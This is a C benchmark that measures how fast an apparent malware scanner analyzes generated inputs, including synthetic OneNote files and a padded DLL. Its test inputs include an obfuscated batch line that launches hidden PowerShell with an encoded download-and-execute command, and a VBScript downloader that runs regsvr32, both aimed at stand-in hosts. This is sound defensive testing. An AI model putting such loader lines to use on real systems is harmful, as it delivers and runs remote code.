/*
 * Payload benchmark: throughput of the payload analyzers through the whole scanner, each against
 * a floor measured in the same run on the same bytes: a scan of the same size of plain text (the
 * scanner's fixed work: copy, SHA-256, type detection, name checks, URL extraction). Inputs are
 * built here in memory:
 *   - a batch file of obfuscated command lines (carets, variable slices, -EncodedCommand),
 *   - a VBScript with Chr() strings and downloader objects,
 *   - a OneNote section holding one large embedded file,
 *   - a OneNote section whose revision store is at the walker's limits: 1024 embedded files, each
 *     declared, named by a node and listed in the file data store, and 60000 revisions of one
 *     node (each re-reads a property set and looks the node up),
 *   - a DLL followed by zero padding (the padding check's tail scan).
 *
 *   bench_payload [MiB]     (default 16: size of each input)
 */
#include "emoguard/emoguard.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define REPS 3

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static eg_scanner *scanner(void)
{
    eg_options opt;
    eg_options_default(&opt);
    opt.limits.max_input = 512u << 20;
    opt.limits.max_object_bytes = 512u << 20;
    opt.limits.max_total_bytes = 2048u << 20;
    opt.limits.max_cpu_ms = 600000;
    eg_scanner *sc = NULL;
    char err[256];
    if (eg_scanner_new(&opt, &sc, err, sizeof err) != EG_OK) {
        fprintf(stderr, "scanner: %s\n", err);
        exit(1);
    }
    return sc;
}

/* best of REPS, seconds */
static double time_scan(eg_scanner *sc, const uint8_t *d, size_t n, const char *name, const char **verdict)
{
    double best = 1e9;
    for (int r = 0; r < REPS; r++) {
        eg_scan_input in = {.source = name, .data = d, .len = n};
        eg_report *rep = NULL;
        double t0 = now();
        eg_scanner_scan(sc, &in, &rep);
        double t = now() - t0;
        if (t < best)
            best = t;
        if (verdict)
            *verdict = eg_verdict_str(eg_report_verdict(rep));
        eg_report_free(rep);
    }
    return best;
}

static uint8_t *repeat(const char *unit, size_t n)
{
    uint8_t *p = malloc(n);
    size_t ul = strlen(unit);
    for (size_t i = 0; i < n; i++)
        p[i] = (uint8_t)unit[i % ul];
    return p;
}

static uint8_t *make_onenote(size_t n)
{
    static const uint8_t hdr[16] = {0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D,
                                    0xAE, 0xB1, 0x53, 0x78, 0xD0, 0x29, 0x96, 0xD3};
    static const uint8_t fdso[16] = {0xE7, 0x16, 0xE3, 0xBD, 0x65, 0x26, 0x11, 0x45,
                                     0xA4, 0xC4, 0x8D, 0x4D, 0x0B, 0x7A, 0x9E, 0xAC};
    uint8_t *p = calloc(1, n);
    memcpy(p, hdr, 16);
    size_t at = 1024, flen = n - at - 36 - 64;
    memcpy(p + at, fdso, 16);
    for (int i = 0; i < 8; i++)
        p[at + 16 + i] = (uint8_t)((uint64_t)flen >> (8 * i));
    uint32_t x = 7;
    for (size_t i = 0; i < flen; i++) {
        x = x * 1103515245u + 12345u;
        p[at + 36 + i] = (uint8_t)(x >> 16);
    }
    return p;
}

/* ---- a OneNote revision store at its limits ---- */

typedef struct {
    uint8_t *p;
    size_t n, cap;
} wb;

static void put(wb *w, const void *d, size_t k)
{
    if (w->n + k > w->cap) {
        while (w->n + k > w->cap)
            w->cap = w->cap ? w->cap * 2 : 1 << 16;
        w->p = realloc(w->p, w->cap);
        if (!w->p)
            exit(1);
    }
    memcpy(w->p + w->n, d, k);
    w->n += k;
}
static void u8(wb *w, uint8_t v) { put(w, &v, 1); }
static void u16(wb *w, uint16_t v) { u8(w, (uint8_t)v), u8(w, (uint8_t)(v >> 8)); }
static void u32(wb *w, uint32_t v) { u16(w, (uint16_t)v), u16(w, (uint16_t)(v >> 16)); }
static void u64(wb *w, uint64_t v) { u32(w, (uint32_t)v), u32(w, (uint32_t)(v >> 32)); }
static void align8(wb *w)
{
    while (w->n % 8)
        u8(w, 0);
}
/* a FileNode with a 4-byte stp and 4-byte cb reference (formats 1 and 0) when base is 1 or 2 */
static void node(wb *w, unsigned id, unsigned base, uint64_t stp, uint32_t cb, const void *fnd, size_t k)
{
    size_t size = 4 + (base ? 8 : 0) + k;
    u32(w, (uint32_t)(id | (size << 10) | (base ? 1u << 23 : 0) | (base << 27) | (1u << 31)));
    if (base) {
        u32(w, (uint32_t)stp);
        u32(w, cb);
    }
    put(w, fnd, k);
}
/* one fragment holding nodes: header, nodes, terminator, nextFragment nil, footer */
static void fragment(wb *w, uint32_t id, const wb *nodes, uint64_t *stp, uint32_t *cb)
{
    align8(w);
    *stp = w->n;
    u64(w, 0xA4567AB1F5F7F4C4ull);
    u32(w, id);
    u32(w, 0);
    put(w, nodes->p, nodes->n);
    u32(w, 0x0FFu | (4u << 10));
    u64(w, UINT64_MAX);
    u32(w, 0);
    u64(w, 0x8BC215C38233BA4Bull);
    *cb = (uint32_t)(w->n - *stp);
}
static void guid_of(uint8_t g[16], uint32_t i)
{
    for (int k = 0; k < 16; k++)
        g[k] = (uint8_t)(0x40 + 13 * k + i * (k < 4));
    memcpy(g, &i, 4);
}
static void ifndf(wb *w, const uint8_t g[16])
{
    char t[64];
    snprintf(t, sizeof t, "<ifndf>{%02X%02X%02X%02X-%02X%02X-%02X%02X-%02X%02X-%02X%02X%02X%02X%02X%02X}", g[3], g[2],
             g[1], g[0], g[5], g[4], g[7], g[6], g[8], g[9], g[10], g[11], g[12], g[13], g[14], g[15]);
    u32(w, (uint32_t)strlen(t));
    for (const char *q = t; *q; q++)
        u16(w, (uint16_t)*q);
}

/* CompactIDs: n is 8 bits, so ids past 255 use the next table index (base + i / 255) */
static uint32_t cid(uint32_t base, uint32_t i) { return ((base + i / 255) << 8) | (i % 255 + 1); }

static uint8_t *make_onenote_store(size_t n)
{
    enum { FILES = 1024, REVISIONS = 60000 };
    static const uint8_t hdr[16] = {0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D,
                                    0xAE, 0xB1, 0x53, 0x78, 0xD0, 0x29, 0x96, 0xD3};
    static const uint8_t fdso_h[16] = {0xE7, 0x16, 0xE3, 0xBD, 0x65, 0x26, 0x11, 0x45,
                                       0xA4, 0xC4, 0x8D, 0x4D, 0x0B, 0x7A, 0x9E, 0xAC};
    static const uint8_t fdso_f[16] = {0x22, 0xA7, 0xFB, 0x71, 0x79, 0x0F, 0x0B, 0x4A,
                                       0xBB, 0x13, 0x89, 0x92, 0x56, 0x42, 0x6B, 0x24};
    static const uint8_t table_guid[16] = {1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16};
    wb w = {0}, nodes = {0}, f = {0};
    put(&w, hdr, 16);
    while (w.n < 1024)
        u8(&w, 0);
    uint64_t fdso[FILES], props[FILES];
    uint32_t fdso_cb[FILES], props_cb[FILES];
    for (uint32_t i = 0; i < FILES; i++) { /* small text files */
        align8(&w);
        fdso[i] = w.n;
        put(&w, fdso_h, 16);
        u64(&w, 40);
        u32(&w, 0);
        u64(&w, 0);
        char body[41];
        snprintf(body, sizeof body, "meeting notes, part %-20u", i);
        put(&w, body, 40);
        put(&w, fdso_f, 16);
        fdso_cb[i] = (uint32_t)(w.n - fdso[i]);
    }
    for (uint32_t i = 0; i < FILES; i++) { /* property sets: container, name */
        align8(&w);
        props[i] = w.n;
        u32(&w, 1u | 0x80000000u);
        u32(&w, cid(0, i));
        u16(&w, 2);
        u32(&w, 0x20001D9Bu);
        u32(&w, 0x1C001D9Cu);
        char name[32];
        int k = snprintf(name, sizeof name, "notes-%u.txt", i);
        u32(&w, (uint32_t)k * 2);
        for (int c = 0; c < k; c++)
            u16(&w, (uint16_t)name[c]);
        props_cb[i] = (uint32_t)(w.n - props[i]);
    }
    node(&nodes, 0x022, 0, 0, 0, NULL, 0);
    for (uint32_t k = 0; k < 10; k++) { /* 0-4: file data objects, 5-9: embedded file nodes */
        uint8_t g[16];
        memcpy(g, table_guid, 16);
        g[15] = (uint8_t)k;
        f.n = 0;
        u32(&f, k);
        put(&f, g, 16);
        node(&nodes, 0x024, 0, 0, 0, f.p, f.n);
    }
    for (uint32_t i = 0; i < FILES; i++) {
        uint8_t g[16];
        guid_of(g, i);
        f.n = 0;
        u32(&f, cid(0, i));
        u32(&f, 0x00080036u);
        u8(&f, 1);
        ifndf(&f, g);
        u32(&f, 4);
        u16(&f, '.'), u16(&f, 't'), u16(&f, 'x'), u16(&f, 't');
        node(&nodes, 0x072, 0, 0, 0, f.p, f.n);
    }
    for (uint32_t i = 0; i < FILES; i++) {
        f.n = 0;
        u32(&f, cid(5, i));
        u32(&f, 0x00060035u);
        u8(&f, 1);
        u8(&f, 1);
        node(&nodes, 0x0A4, 1, props[i], props_cb[i], f.p, f.n);
    }
    for (uint32_t r = 0; r < REVISIONS; r++) {
        uint32_t i = FILES - 1 - r % 8; /* the last nodes: the longest lookups */
        f.n = 0;
        u32(&f, cid(5, i));
        u8(&f, 5);
        node(&nodes, 0x041, 1, props[i], props_cb[i], f.p, f.n);
    }
    uint64_t group, store, root;
    uint32_t group_cb, store_cb, root_cb;
    fragment(&w, 0x30, &nodes, &group, &group_cb);
    nodes.n = 0;
    for (uint32_t i = 0; i < FILES; i++) {
        uint8_t g[16];
        guid_of(g, i);
        node(&nodes, 0x094, 1, fdso[i], fdso_cb[i], g, 16);
    }
    fragment(&w, 0x40, &nodes, &store, &store_cb);
    nodes.n = 0;
    uint8_t gid[20] = {0};
    node(&nodes, 0x0B0, 2, group, group_cb, gid, 20);
    node(&nodes, 0x090, 2, store, store_cb, NULL, 0);
    fragment(&w, 0x10, &nodes, &root, &root_cb);
    memcpy(w.p + 172, &root, 8); /* little-endian hosts */
    memcpy(w.p + 180, &root_cb, 4);
    while (w.n < n)
        u8(&w, 0);
    free(nodes.p);
    free(f.p);
    return w.p;
}

static uint8_t *make_padded_dll(size_t n)
{
    uint8_t *p = calloc(1, n);
    p[0] = 'M';
    p[1] = 'Z';
    p[0x3C] = 0x80;
    memcpy(p + 0x80, "PE\0\0\x4c\x01\x01\0", 8);
    p[0x80 + 22] = 0x02;
    p[0x80 + 23] = 0x21;
    return p;
}

int main(int argc, char **argv)
{
    size_t mib = argc > 1 ? (size_t)strtoul(argv[1], NULL, 10) : 16;
    size_t n = mib << 20;
    eg_global_init();
    eg_scanner *sc = scanner();
    uint8_t *floor_text = repeat("Meeting notes for the quarterly review, see the attached agenda.\r\n", n);
    double floor = time_scan(sc, floor_text, n, "notes.txt", NULL);
    struct {
        const char *what, *name;
        uint8_t *data;
    } w[] = {
        {"batch file, obfuscated command lines", "run.bat",
         repeat("@echo off\r\nset x=abcdefghijklmnopqrstuvwxyz&& c^m^d /c %x:~15,1%owershell -w hidden -enc "
                "SQBFAFgAKABpAHcAcgAgAGgAdAB0AHAAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUALgB0AGUAcwB0AC8AcAApAA==\r\n",
                n)},
        {"VBScript, Chr() strings and downloader", "a.vbs",
         repeat("Set x = CreateObject(\"MSXML2.XMLHTTP\"): x.Open \"GET\", \"http://\" & Chr(104) & \"a.test/\", "
                "False\r\nCreateObject(\"WScript.Shell\").Run \"regsvr32 /s a.ocx\", 0\r\n",
                n)},
        {"OneNote, one large embedded file", "a.one", make_onenote(n)},
        {"OneNote, revision store at its limits", "b.one", make_onenote_store(n)},
        {"DLL followed by zero padding", "a.dll", make_padded_dll(n)},
    };
    printf("## bench_payload (%zu MiB inputs, best of %d)\n\n", mib, REPS);
    printf("floor: plain text scan %.3f s (%.0f MiB/s)\n\n", floor, (double)mib / floor);
    printf("| input | time | MiB/s | ratio to floor | verdict |\n|---|---|---|---|---|\n");
    for (size_t i = 0; i < sizeof w / sizeof w[0]; i++) {
        const char *v = "";
        double t = time_scan(sc, w[i].data, n, w[i].name, &v);
        printf("| %s | %.3f s | %.0f | %.2f | %s |\n", w[i].what, t, (double)mib / t, t / floor, v);
        free(w[i].data);
    }
    free(floor_text);
    eg_scanner_free(sc);
    eg_global_shutdown();
    return 0;
}
